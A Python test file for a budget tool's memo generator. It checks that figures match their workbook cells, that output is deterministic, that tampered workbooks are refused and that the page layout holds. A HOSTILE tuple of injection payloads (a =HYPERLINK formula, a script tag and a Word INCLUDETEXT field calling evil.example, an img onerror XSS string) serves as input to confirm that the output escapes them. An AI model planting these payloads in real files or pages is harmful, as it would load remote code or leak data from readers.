"""The memo: each figure stands at the place that it names, no changed workbook has one, hostile text stays text, and
whatever a city is called it is two pages that can be read."""

from __future__ import annotations

import datetime
import io
import re
import subprocess
import zipfile
from dataclasses import replace
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import psutil
import pytest
from typer.testing import CliRunner

import budgetopt as bo
from budgetopt.cli.app import app
from budgetopt.publish.memo import Memo, memo_html, memo_of
from budgetopt.publish.memo_docx import memo_docx, memo_pdf
from budgetopt.publish.memo_words import CellText, Words
from budgetopt.workbooks.recommendation import write_recommendation
from tests import office
from tests.small import city, fund

DAY = datetime.date(2026, 7, 1)
HOSTILE = (
    '=HYPERLINK("http://evil.example/","x")',
    "<script src=//evil.example/a.js></script><w:fldSimple w:instr='DATE'/>",
    "{ INCLUDETEXT http://evil.example/ } {{ memo.foot }} {% include 'x' %}",
    "&lt;b&gt; ]]> <img src=x onerror=alert(1)>",
)


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory, balanced_workbook: bytes) -> Path:
    path = tmp_path_factory.mktemp("memo") / "riverton-plan.xlsx"
    path.write_bytes(balanced_workbook)
    return path


def made(path: Path) -> Memo:
    memo = memo_of(path, DAY)[1]
    assert memo is not None
    return memo


@pytest.fixture(scope="module")
def memo(sample: Path) -> Memo:
    return made(sample)


def spoken(memo: Memo) -> list[Words]:
    """All words of a memo, in the order of its pages."""
    found = [memo.lead]
    for section in memo.sections:
        found += section.paragraphs
        found += [cell for row in (section.table.rows if section.table else ()) for cell in row]
    return found


def cells(memo: Memo) -> list[CellText]:
    return [part for words in spoken(memo) for part in words if isinstance(part, CellText)]


def test_every_figure_stands_at_the_place_that_it_names(memo: Memo, sample: Path) -> None:
    book = openpyxl.load_workbook(sample, data_only=True)
    shown = cells(memo)
    for one in shown:
        sheet, named = one.place.rsplit("!", 1)
        there = [book[sheet][cell].value for cell in named.split(", ")]
        if isinstance(there[0], str):
            assert " ".join(there[0].split()).startswith(one.text.removesuffix("…")), one.place
            continue
        number = re.fullmatch(r"(\()?\$?([\d,.]+)\)?", one.text)
        assert number, one.text
        value = float(number[2].replace(",", "")) * (-1 if number[1] else 1)
        # Money to the cent, impact points whole.
        assert abs(value - sum(there)) <= (0.005 if "$" in one.text else 0.5), one.place
    assert sum("$" in one.text for one in shown) > 20
    # What has a digit and no place is no figure: names, and the confidence that is asked for.
    numbers = {part for words in spoken(memo) for part in words if isinstance(part, str) and re.search(r"\d", part)}
    assert numbers == {
        " with 95% confidence, if the beliefs are right.",
        "Gain, at least with 95% confidence, impact points",
        "911 communications center, Police",
        "No program is cut by more than 20%",
        "No program grows by more than 25%",
        "At most 5% of each fund is moved",
    }


def test_it_names_the_bytes_that_it_was_read_from(memo: Memo, sample: Path) -> None:
    sum_ = f"SHA-256 {sha256(sample.read_bytes()).hexdigest()}"
    assert sum_ in memo.foot
    # Also of a file that is in memory alone, as on a screen: it has been read to its end by then.
    (held := io.BytesIO(sample.read_bytes())).name = sample.name
    again = memo_of(held, DAY)[1]
    assert again is not None and sum_ in again.foot


def test_the_sections_say_what_the_workbook_says(memo: Memo, balanced: bo.Plan) -> None:
    """The largest moves by the plan's own table, and not by the memo's way of reading them."""
    changed = balanced.programs.sort_values("change", kind="stable")
    tables = {section.title: section.table for section in memo.sections}
    for what, programs in (("cuts", changed.head(5)), ("raises", changed.tail(5)[::-1])):
        table = tables[f"The largest {what}, and what each rests on"]
        assert table is not None
        assert [row[0][0] for row in table.rows] == [
            f"{one.program}, {one.department}" for one in programs.itertuples()
        ]
    districts = tables["Who is affected, by district"]
    assert districts is not None and len(districts.rows) == 6
    rules = next(section for section in memo.sections if section.title.startswith("What each rule costs"))
    assert rules.table is not None and len(rules.table.rows) == 4


def test_both_faces_say_the_same_words(memo: Memo) -> None:
    said = [
        " ".join("".join(part if isinstance(part, str) else f"{part.text} [{part.place}]" for part in words).split())
        for words in spoken(memo)
    ]
    page = " ".join(unescape(re.sub(r"</?span[^>]*>", "", memo_html(memo).decode())).split())
    document = docx.Document(io.BytesIO(memo_docx(memo)))
    paragraphs = [one.text for one in document.paragraphs]
    paragraphs += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    for text in said:
        assert text in page
        assert text in {" ".join(one.split()) for one in paragraphs}


def test_the_same_workbook_and_date_give_the_same_bytes(memo: Memo, sample: Path) -> None:
    again = made(sample)
    assert (memo_docx(memo), memo_html(memo)) == (memo_docx(again), memo_html(again))
    # Not by the luck of one second.
    parts = zipfile.ZipFile(io.BytesIO(memo_docx(memo))).infolist()
    assert {part.date_time for part in parts} == {(2026, 7, 1, 0, 0, 0)}
    assert docx.Document(io.BytesIO(memo_docx(memo))).core_properties.modified.date() == DAY


@pytest.mark.parametrize(("sheet", "cell"), [("Recommendations", "G20"), ("Summary", "B17")])
def test_a_changed_cell_refuses(sample: Path, tmp_path: Path, sheet: str, cell: str) -> None:
    """A copy with cached values alone, so that only the change can be what is wrong."""
    book = openpyxl.load_workbook(sample, data_only=True)
    assert isinstance(book[sheet][cell].value, int | float | str)
    book[sheet][cell].value = 1_234_567
    book.save(tmp_path / "changed.xlsx")
    done = CliRunner().invoke(app, ["memo", str(tmp_path / "changed.xlsx"), "-o", str(tmp_path / "memo.html")])
    assert done.exit_code == 5, done.output
    assert f"{sheet}!{cell}" in done.output
    assert not (tmp_path / "memo.html").exists()


def test_a_cell_that_no_check_looks_at_makes_another_memo(sample: Path, memo: Memo, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(sample, data_only=True)
    book["Evidence"]["C9"].value = "another"
    book.save(tmp_path / sample.name)
    assert memo_html(made(tmp_path / sample.name)) != memo_html(memo)


def test_decisions_on_a_copy_of_the_sheet_are_told_once(sample: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(sample, data_only=True)
    sheet = book["Decisions"]
    (header,) = (row for row in sheet.iter_rows() if row[0].value == "Program ID")
    column, first = {cell.value: cell.column for cell in header}, header[0].row + 1
    sheet.cell(first, column["Decision"], "reject")
    copy = book.copy_worksheet(sheet)
    copy.title = "Decisions (2)"
    copy.cell(first + 1, column["Decision"], "hold")
    book.save(tmp_path / sample.name)
    told = next(one for one in made(tmp_path / sample.name).sections if one.title.startswith("What was decided"))
    said = [words for words in told.paragraphs if any("not in this plan yet" in str(part) for part in words)]
    parts = [[part for part in words if isinstance(part, CellText)] for words in said]
    assert [[(one.text, one.place) for one in words[1:]] for words in parts] == [
        [("rejected", f"Decisions!{sheet.cell(first, column['Decision']).coordinate}")],
        [("held", f"Decisions (2)!{copy.cell(first + 1, column['Decision']).coordinate}")],
    ]


def test_other_endings_are_usage_errors(sample: Path, tmp_path: Path) -> None:
    assert CliRunner().invoke(app, ["memo", str(sample), "-o", str(tmp_path / "memo.doc")]).exit_code != 0


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Memo:
    """Twelve programs, a district and a decision with names that hurt and are as long as a page."""
    programs = {
        f"P{number}": {
            "name": f"{HOSTILE[number % 4]} {number} {'Wmw ' * 60}",
            "department": f"{HOSTILE[(number + 1) % 4]}{'M' * 80}",
            "lines": {"General": 1000 + number},
            "known": "good" if number % 2 else "useless",
        }
        for number in range(14)
    }
    budget = city(programs, (fund("General", "no", name=HOSTILE[0]),))
    decided = {"kind": "lock", "name": "kept", "program": "P0", "amount": 1000, "source": HOSTILE[1] * 3}
    decided |= {"decided": {"decision": "reject", "round": 1, "by": HOSTILE[2]}}
    asked = {"name": HOSTILE[3], "description": HOSTILE[1] * 9, "round_to": 1, "rules": [decided]}
    limits = {"program_cut": "20%", "program_growth": "20%", "unknown": "none"}
    plan = bo.recommend(budget, bo.Scenario(**asked, limits=limits))
    path = tmp_path_factory.mktemp("hostile") / "plan.xlsx"
    with path.open("wb") as file:
        write_recommendation(plan, file, DAY)
    return made(path)


class _Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def test_hostile_text_stays_text(hostile: Memo) -> None:
    page, content = memo_html(hostile).decode(), memo_docx(hostile)
    seen = _Tags()
    seen.feed(page)
    assert not seen.tags & {"script", "img", "a", "b", "w:fldsimple", "iframe", "link", "object"}
    assert seen.attributes == {"lang", "charset", "http-equiv", "content", "name", "class", "scope", "style"}
    assert all(re.fullmatch(r"width: \d+%", style) for style in re.findall(r'style="([^"]*)"', page))
    assert "&lt;script src=//evil.example" in page and "{{ memo.foot }}" in page
    document = docx.Document(io.BytesIO(content))
    xml = document.element.xml
    assert not re.search(r"<w:(fldSimple|fldChar|instrText|hyperlink|object)\b", xml)
    assert "=HYPERLINK" in document.element.xpath("string(.)")
    outside = [one.target_ref for one in document.part.rels.values() if one.is_external]
    assert outside == []


def test_a_pdf_that_is_stopped_leaves_no_file_and_no_program(
    memo: Memo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    office.writer_needed()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def converts() -> list[int]:
        lines = ((one.pid, " ".join(one.info["cmdline"] or ())) for one in psutil.process_iter(["cmdline"]))
        return [pid for pid, line in lines if str(tmp_path) in line]

    seen = set[int]()

    def stop() -> None:
        # The script and the program proper that it starts.
        seen.update(converts())
        if len(seen) > 1:
            raise RuntimeError("stopped")

    with pytest.raises(RuntimeError, match="stopped"):
        memo_pdf(memo, stop)
    assert len(seen) > 1 and list(tmp_path.iterdir()) == []
    psutil.wait_procs([psutil.Process(pid) for pid in converts()], 30)
    assert not converts()


@pytest.mark.parametrize(("currency", "millimetres"), [("USD", (216, 279)), ("EUR", (210, 297))])
def test_it_is_on_the_paper_of_its_country(currency: str, millimetres: tuple[int, int], tmp_path: Path) -> None:
    programs = {"Jobs": {"lines": {"General": 1000}, "known": "good"}, "Fair": {"lines": {"General": 1000}}}
    bo.to_excel(bo.recommend(city(programs, currency=currency)), tmp_path / "plan.xlsx", date=DAY)
    page = docx.Document(io.BytesIO(memo_docx(made(tmp_path / "plan.xlsx")))).sections[0]
    assert page.page_width and page.page_height
    assert (round(page.page_width.mm), round(page.page_height.mm)) == millimetres


def test_two_pages_and_nothing_too_small(memo: Memo, hostile: Memo, tmp_path: Path) -> None:
    office.writer_needed()
    reader = office.needed("pdftohtml")
    for name, one in (("riverton", memo), ("on A4", replace(memo, letter=False)), ("hostile", hostile)):
        path = tmp_path / f"{name}.pdf"
        path.write_bytes(memo_pdf(one))
        command = [reader, "-xml", "-i", "-zoom", "1", "-stdout", str(path)]
        drawn = subprocess.run(command, check=True, capture_output=True, text=True).stdout
        assert drawn.count("<page ") <= 2, name
        sizes = [int(size) for size in re.findall(r'<fontspec [^>]*size="(\d+)"', drawn)]
        assert min(sizes) >= 8, name
        assert "What was decided, and why" in drawn
